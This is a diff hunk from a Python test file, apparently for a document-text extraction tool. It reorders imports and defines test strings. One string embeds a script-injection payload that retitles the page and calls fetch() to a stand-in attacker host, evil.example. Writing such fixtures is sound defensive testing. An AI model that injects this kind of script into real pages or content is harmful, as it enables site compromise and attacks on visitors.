@@ -9,10 +9,9 @@ from pathlib import Path
 
 import pypdf
 import pytest
+from analysis.wording import visible
 from conftest import Project, copy, epub, need, text
 from playwright.sync_api import Browser
-
-from analysis.wording import visible
 
 LINES = {
     "script": "BMW said on Friday <script>document.title='owned';fetch('https://evil.example')</script> that it is so.",
